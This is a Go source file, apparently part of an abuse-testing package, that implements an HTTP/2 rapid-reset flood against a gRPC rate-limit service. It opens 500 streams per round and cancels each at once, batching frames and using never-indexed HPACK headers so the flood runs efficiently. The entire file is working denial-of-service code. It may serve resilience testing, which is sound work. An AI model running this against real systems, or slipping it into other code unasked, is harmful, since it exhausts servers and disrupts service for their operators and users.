package abuse

import (
	"bytes"
	"context"
	"io"
	"net"
	"sync"
	"time"

	rls "github.com/envoyproxy/go-control-plane/envoy/service/ratelimit/v3"
	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// streamsPerRound is the number of streams that a worker opens and resets in a round.
const streamsPerRound = 500

// resetStreams opens HTTP/2 streams on a connection and resets each at once.
func resetStreams(ctx context.Context, addr string, timeout time.Duration) (outcome string) {
	conn, err := new(net.Dialer).DialContext(ctx, "tcp", addr)
	if err != nil {
		return dialFailed
	}
	var reading sync.WaitGroup
	defer reading.Wait()
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(timeout))
	reading.Go(func() { _, _ = io.Copy(io.Discard, conn) })
	var out bytes.Buffer // a frame at a time would take a system call each
	framer, headers := http2.NewFramer(&out, nil), requestHeaders()
	out.WriteString(http2.ClientPreface)
	_ = framer.WriteSettings()
	for i := range uint32(streamsPerRound) {
		writeReset(framer, 2*i+1, headers)
		if _, err := out.WriteTo(conn); err != nil {
			return closed
		}
	}
	return "all streams reset"
}

// writeReset opens and resets a stream. The framer writes to memory, which does not fail.
func writeReset(framer *http2.Framer, stream uint32, headers []byte) {
	_ = framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: headers, EndHeaders: true})
	_ = framer.WriteRSTStream(stream, http2.ErrCodeCancel)
}

// requestHeaders encodes the headers of a ShouldRateLimit call. Every stream sends the same block.
func requestHeaders() []byte {
	var block bytes.Buffer
	e := hpack.NewEncoder(&block)
	for _, h := range [][2]string{
		{":method", "POST"}, {":scheme", "http"}, {":authority", "node"},
		{":path", rls.RateLimitService_ShouldRateLimit_FullMethodName},
		{"content-type", "application/grpc"}, {"te", "trailers"},
	} {
		// Sensitive fields are never indexed, so that the block may repeat.
		_ = e.WriteField(hpack.HeaderField{Name: h[0], Value: h[1], Sensitive: true})
	}
	return block.Bytes()
}
